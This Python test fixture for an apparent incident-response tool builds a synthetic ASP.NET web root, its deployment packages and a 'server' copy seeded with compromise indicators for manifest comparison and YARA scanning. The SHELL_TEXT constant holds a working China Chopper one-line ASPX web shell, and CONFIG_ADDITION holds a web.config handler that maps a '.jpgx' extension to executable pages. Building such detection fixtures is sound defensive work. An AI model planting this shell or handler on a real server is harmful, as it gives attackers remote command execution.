"""A generated ASP.NET web root, its known-good deployment artifacts, and a "server" copy with
planted changes: what `irtool manifest build` / `compare` and the YARA scan are tested on.

``planted_webroot(tmp, files=40)`` writes, under ``tmp``:

- ``good/``: the known-good web root (``files`` files: pages, web.config, bin/*.dll, scripts,
  styles, images, a placeholder in the upload folder and App_Data);
- ``good.zip``: the same files in a plain zip (forward slashes, directory entries);
- ``package.zip``: a WebDeploy-shaped package (``archive.xml``, ``parameters.xml``,
  ``systemInfo.xml`` and the content under ``Content/C_C/build/Contoso.Web/obj/Release/
  Package/PackageTmp/``, which archive.xml's ``iisApp`` and ``contentPath`` name);
- ``repo/``: a git repository holding the web root under ``src/Contoso.Web/`` at ``commit``,
  followed by a later commit (HEAD) that changes a page and adds a file, so that building
  at HEAD instead of ``commit`` is noticed;
- ``server/``: the "server" copy: the known-good root plus an added one-line ASPX shell
  (``shell``), a modified ``web.config`` (a handler added), a missing DLL (``dll``), and
  uploads (new files in ``uploads/`` and ``App_Data/``, a changed one) that must stay quiet;
- ``webroot.csv``: the triage ``webroot`` collector's listing of the server copy as PowerShell
  writes it (``ConvertTo-Csv -NoTypeInformation``: a BOM, every value quoted, CRLF, backslash
  paths, upper-case hashes; one directory listed in another case, as NTFS allows);
- ``webroot.json``: the same rows as ``ConvertTo-Json`` writes them (an indented list).

Every byte is a function of ``files`` and ``seed``. The differences a comparison must report
are ``added``, ``changed`` and ``missing`` (posix paths relative to the web root), and
``volatile`` the differing files it must keep quiet.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import subprocess
import zipfile
from dataclasses import dataclass
from pathlib import Path

#: The one-line ASPX web shell planted on the server (China Chopper's classic form).
SHELL_TEXT = '<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>\r\n'
#: What the attacker added to web.config: a handler that maps a new extension to a page type.
CONFIG_ADDITION = (
    '      <add name="ImageHandler" path="*.jpgx" verb="*" '
    'type="System.Web.UI.PageHandlerFactory" resourceType="Unspecified" />\r\n'
)
APP_ROOT_IN_PACKAGE = "build/Contoso.Web/obj/Release/Package/PackageTmp"
REPO_ROOT = "src/Contoso.Web"

_WEB_CONFIG = (
    '<?xml version="1.0" encoding="utf-8"?>\r\n'
    "<configuration>\r\n"
    "  <system.web>\r\n"
    '    <compilation debug="false" targetFramework="4.8" />\r\n'
    '    <httpRuntime targetFramework="4.8" maxRequestLength="4096" />\r\n'
    '    <customErrors mode="RemoteOnly" />\r\n'
    "  </system.web>\r\n"
    "  <system.webServer>\r\n"
    "    <handlers>\r\n"
    '      <remove name="ExtensionlessUrlHandler-Integrated-4.0" />\r\n'
    '      <add name="ExtensionlessUrlHandler-Integrated-4.0" path="*." verb="*" '
    'type="System.Web.Handlers.TransferRequestHandler" preCondition="integratedMode" />\r\n'
    "    </handlers>\r\n"
    "  </system.webServer>\r\n"
    "</configuration>\r\n"
)
_PAGE = (
    '<%@ Page Title="{title}" Language="C#" MasterPageFile="~/Site.Master" '
    'AutoEventWireup="true" CodeBehind="{name}.cs" Inherits="Contoso.Web.{cls}" %>\r\n'
    '<asp:Content ID="Body" ContentPlaceHolderID="MainContent" runat="server">\r\n'
    "  <h2>{title}</h2>\r\n  <p>{text}</p>\r\n</asp:Content>\r\n"
)
_WORDS = (
    "orders", "invoices", "customers", "catalog", "account", "profile", "search", "report",
    "export", "import", "about", "contact", "help", "status", "billing", "shipping", "returns",
    "support", "news", "events",
)  # fmt: skip


@dataclass(frozen=True)
class Planted:
    """A known-good web root, its artifacts, and a server copy with planted changes."""

    good: Path  # the known-good web root (a directory)
    zip: Path  # the same files in a plain zip
    webdeploy: Path  # a WebDeploy-shaped package of the same files
    repo: Path  # a git repository: the web root under `repo_root` at `commit`
    repo_root: str  # where the web root is inside the repository ("src/Contoso.Web")
    commit: str  # the known-good commit (HEAD is a later one that differs)
    server: Path  # the "server" copy with the planted changes
    listing_csv: Path  # the webroot collector's CSV of the server copy
    listing_json: Path  # the same as ConvertTo-Json writes it
    files: int  # files in the known-good root
    bytes: int  # their total size
    shell: str  # the added ASPX shell (posix, relative to the web root)
    config: str  # the modified web.config
    dll: str  # the DLL missing on the server
    added: tuple[str, ...]  # what a comparison must report as added...
    changed: tuple[str, ...]  # ...changed...
    missing: tuple[str, ...]  # ...and missing (all posix, sorted)
    volatile: tuple[str, ...]  # files that differ only under volatile paths: quiet
    sha256: dict[str, str]  # server copy: posix path -> sha256 (lower case)


def planted_webroot(tmp: Path, files: int = 40, *, seed: int = 19) -> Planted:
    """Write the known-good web root, its artifacts and the planted server copy under `tmp`."""
    if files < 12:
        raise ValueError("a planted web root needs at least 12 files")
    rng = random.Random(seed)
    good = tmp / "good"
    contents = _known_good(rng, files)
    _write_tree(good, contents)

    server = tmp / "server"
    shell, config, dll = (
        "aspnet_client/system_web/errors.aspx",
        "web.config",
        "bin/Contoso.Data.dll",
    )
    planted = dict(contents)
    planted[shell] = SHELL_TEXT.encode()
    planted[config] = _WEB_CONFIG.replace(
        "    </handlers>\r\n", CONFIG_ADDITION + "    </handlers>\r\n"
    ).encode()
    del planted[dll]
    volatile = {
        "uploads/2026/12/invoice-7731.pdf": b"%PDF-1.4\n" + rng.randbytes(900),
        "uploads/2026/12/avatar-ann.jpg": b"\xff\xd8\xff\xe0" + rng.randbytes(700),
        "App_Data/cache/session-store.bin": rng.randbytes(300),
        "App_Data/Contoso.mdf": rng.randbytes(2048),  # changed: the database grows
    }
    assert "App_Data/Contoso.mdf" in contents
    planted.update(volatile)
    _write_tree(server, planted)

    listing_csv, listing_json = tmp / "webroot.csv", tmp / "webroot.json"
    rows = _listing_rows(planted)
    _write_csv(listing_csv, rows)
    listing_json.write_text(json.dumps(rows, indent=4).replace("\n", "\r\n"), encoding="utf-8")

    zip_path, package = tmp / "good.zip", tmp / "package.zip"
    _write_zip(zip_path, contents)
    _write_webdeploy(package, contents)
    repo, commit = tmp / "repo", _write_repo(tmp / "repo", contents)

    return Planted(
        good=good,
        zip=zip_path,
        webdeploy=package,
        repo=repo,
        repo_root=REPO_ROOT,
        commit=commit,
        server=server,
        listing_csv=listing_csv,
        listing_json=listing_json,
        files=len(contents),
        bytes=sum(len(b) for b in contents.values()),
        shell=shell,
        config=config,
        dll=dll,
        added=(shell,),
        changed=(config,),
        missing=(dll,),
        volatile=tuple(sorted(volatile)),
        sha256={path: hashlib.sha256(data).hexdigest() for path, data in planted.items()},
    )


# -- the known-good root ----------------------------------------------------------------------


def _known_good(rng: random.Random, files: int) -> dict[str, bytes]:
    """posix path -> bytes: a fixed core of an ASP.NET site, then pages, scripts, styles and
    images until there are `files` files."""
    contents: dict[str, bytes] = {
        "web.config": _WEB_CONFIG.encode(),
        "Global.asax": b'<%@ Application Codebehind="Global.asax.cs" '
        b'Inherits="Contoso.Web.Global" Language="C#" %>\r\n',
        "Site.Master": b'<%@ Master Language="C#" CodeBehind="Site.Master.cs" %>\r\n<html>'
        b'<body><asp:ContentPlaceHolder ID="MainContent" runat="server" /></body></html>\r\n',
        "Default.aspx": _page(rng, "Default").encode(),
        "bin/Contoso.Web.dll": _dll(rng, "Contoso.Web"),
        "bin/Contoso.Data.dll": _dll(rng, "Contoso.Data"),
        "bin/Newtonsoft.Json.dll": _dll(rng, "Newtonsoft.Json"),
        "bin/Contoso.Web.dll.config": b'<?xml version="1.0"?>\r\n<configuration />\r\n',
        "Views/web.config": b'<?xml version="1.0"?>\r\n<configuration>\r\n  <system.web>'
        b'<httpHandlers><add path="*" verb="*" type="System.Web.HttpNotFoundHandler"/>'
        b"</httpHandlers></system.web>\r\n</configuration>\r\n",
        "uploads/README.txt": b"Files users upload. Not part of a release.\r\n",
        "App_Data/Contoso.mdf": rng.randbytes(1024),
        "robots.txt": b"User-agent: *\r\nDisallow: /account/\r\n",
    }
    number = 0
    while len(contents) < files:
        number += 1
        word = _WORDS[number % len(_WORDS)]
        kind = number % 5
        if kind == 0:
            name = f"{word.capitalize()}{number}"
            contents[f"Pages/{name}.aspx"] = _page(rng, name).encode()
        elif kind == 1:
            contents[f"Scripts/{word}-{number}.js"] = _script(rng, word).encode()
        elif kind == 2:
            contents[f"Content/{word}-{number}.css"] = _style(rng).encode()
        elif kind == 3:
            contents[f"Content/images/{word}-{number}.png"] = b"\x89PNG\r\n\x1a\n" + rng.randbytes(
                rng.randrange(200, 3000)
            )
        else:
            contents[f"Views/{word.capitalize()}/Index{number}.cshtml"] = (
                f"@model Contoso.Web.Models.{word.capitalize()}Model\r\n"
                f"<h2>@Model.Title</h2>\r\n<p>{_sentence(rng)}</p>\r\n"
            ).encode()
    return contents


def _page(rng: random.Random, name: str) -> str:
    title = name.rstrip("0123456789") or name
    return _PAGE.format(title=title, name=f"{name}.aspx", cls=name, text=_sentence(rng))


def _sentence(rng: random.Random) -> str:
    return " ".join(rng.choice(_WORDS) for _ in range(rng.randrange(6, 30))).capitalize() + "."


def _script(rng: random.Random, word: str) -> str:
    lines = [f"// {word}: page behaviour", "(function () {", "  'use strict';"]
    for i in range(rng.randrange(3, 40)):
        lines.append(f"  var {word}{i} = document.getElementById('{rng.choice(_WORDS)}{i}');")
    lines.append("})();")
    return "\r\n".join(lines) + "\r\n"


def _style(rng: random.Random) -> str:
    rules = [
        f".{rng.choice(_WORDS)}-{i} {{ margin: {rng.randrange(0, 20)}px; color: #{rng.randrange(0x1000000):06x}; }}"  # noqa: E501
        for i in range(rng.randrange(3, 30))
    ]
    return "\r\n".join(rules) + "\r\n"


def _dll(rng: random.Random, name: str) -> bytes:
    """A file that starts as a PE does (MZ), with the assembly's name in it: enough for a hash."""
    return (
        b"MZ\x90\x00" + rng.randbytes(60) + name.encode() + rng.randbytes(rng.randrange(4000, 9000))
    )


# -- writing it out ---------------------------------------------------------------------------


def _write_tree(root: Path, contents: dict[str, bytes]) -> None:
    for path, data in contents.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)


def _listing_rows(contents: dict[str, bytes]) -> list[dict[str, object]]:
    """The webroot collector's rows: Windows paths, upper-case hashes; `Scripts` listed as
    `scripts` (NTFS keeps one case, a listing may show another: IIS does not care)."""
    rows: list[dict[str, object]] = []
    for path in sorted(contents):
        data = contents[path]
        shown = "scripts" + path[len("Scripts") :] if path.startswith("Scripts/") else path
        rows.append(
            {
                "relative_path": shown.replace("/", "\\"),
                "size": len(data),
                "created_utc": "2026-11-02T09:14:07.1234567Z",
                "modified_utc": "2026-12-05T22:41:19.7654321Z",
                "attributes": "Archive",
                "sha256": hashlib.sha256(data).hexdigest().upper(),
            }
        )
    return rows


def _write_csv(path: Path, rows: list[dict[str, object]]) -> None:
    """As `ConvertTo-Csv -NoTypeInformation` then `Out-File -Encoding utf8`: BOM, all quoted."""
    header = list(rows[0])
    lines = [",".join(f'"{name}"' for name in header)]
    for row in rows:
        lines.append(",".join('"' + str(row[name]).replace('"', '""') + '"' for name in header))
    path.write_bytes(b"\xef\xbb\xbf" + ("\r\n".join(lines) + "\r\n").encode())


def _write_zip(path: Path, contents: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        directories = sorted({p.rsplit("/", 1)[0] + "/" for p in contents if "/" in p})
        for directory in directories:
            archive.writestr(directory, b"")
        for name in sorted(contents):
            archive.writestr(name, contents[name])


def _write_webdeploy(path: Path, contents: dict[str, bytes]) -> None:
    """The shape `msbuild /t:Package` gives: the app's build path under Content/C_C/...,
    named by archive.xml; parameters.xml says where it is deployed."""
    windows_root = "C:\\" + APP_ROOT_IN_PACKAGE.replace("/", "\\")
    archive_xml = (
        '<?xml version="1.0" encoding="utf-8"?>\r\n'
        '<sitemanifest MSDeploy.ObjectResolver.createApp="Microsoft.Web.Deployment.CreateAppObjectResolver">\r\n'  # noqa: E501
        "  <MSDeploy.iisApp>\r\n"
        f'    <iisApp path="{windows_root}" managedRuntimeVersion="v4.0">\r\n'
        "      <MSDeploy.contentPath>\r\n"
        f'        <contentPath path="{windows_root}" />\r\n'
        "      </MSDeploy.contentPath>\r\n"
        "    </iisApp>\r\n"
        "  </MSDeploy.iisApp>\r\n"
        "</sitemanifest>\r\n"
    )
    parameters_xml = (
        '<?xml version="1.0" encoding="utf-8"?>\r\n<parameters>\r\n'
        '  <parameter name="IIS Web Application Name" defaultValue="Default Web Site/Contoso" '
        'tags="IisApp">\r\n'
        '    <parameterEntry kind="ProviderPath" scope="IisApp" '
        f'match="^{windows_root.replace(chr(92), chr(92) * 2)}$" />\r\n'
        "  </parameter>\r\n</parameters>\r\n"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive.xml", archive_xml)
        archive.writestr("parameters.xml", parameters_xml)
        archive.writestr("systemInfo.xml", '<systemInfo osVersion="10.0" />\r\n')
        for name in sorted(contents):
            archive.writestr(f"Content/C_C/{APP_ROOT_IN_PACKAGE}/{name}", contents[name])


def _write_repo(repo: Path, contents: dict[str, bytes]) -> str:
    """A repository with the web root under REPO_ROOT at the returned commit, and a later
    commit at HEAD that changes Default.aspx and adds a file."""
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "Build",
        "GIT_AUTHOR_EMAIL": "build@contoso.example",
        "GIT_AUTHOR_DATE": "2026-11-01T10:00:00Z",
        "GIT_COMMITTER_NAME": "Build",
        "GIT_COMMITTER_EMAIL": "build@contoso.example",
        "GIT_COMMITTER_DATE": "2026-11-01T10:00:00Z",
        "GIT_CONFIG_NOSYSTEM": "1",
        "HOME": str(repo.parent),  # no user config: autocrlf and hooks of the machine stay out
    }

    def git(*args: str) -> str:
        done = subprocess.run(
            ["git", "-C", str(repo), *args], env=env, check=True, capture_output=True, text=True
        )
        return done.stdout.strip()

    repo.mkdir(parents=True)
    git("init", "-q", "-b", "main")
    git("config", "core.autocrlf", "false")
    _write_tree(repo / REPO_ROOT, contents)
    (repo / "README.md").write_text("Contoso.Web\n")
    git("add", "-A")
    git("commit", "-q", "-m", "Release 4.2")
    commit = git("rev-parse", "HEAD")
    (repo / REPO_ROOT / "Default.aspx").write_bytes(contents["Default.aspx"] + b"<!-- 4.3 -->\r\n")
    (repo / REPO_ROOT / "Pages" / "New.aspx").parent.mkdir(exist_ok=True)
    (repo / REPO_ROOT / "Pages" / "New.aspx").write_bytes(b'<%@ Page Language="C#" %>\r\n')
    git("add", "-A")
    git("commit", "-q", "-m", "Work towards 4.3")
    return commit


def copy_server(planted: Planted, target: Path) -> Path:
    """A fresh copy of the server tree (for a test that changes it further)."""
    shutil.copytree(planted.server, target)
    return target
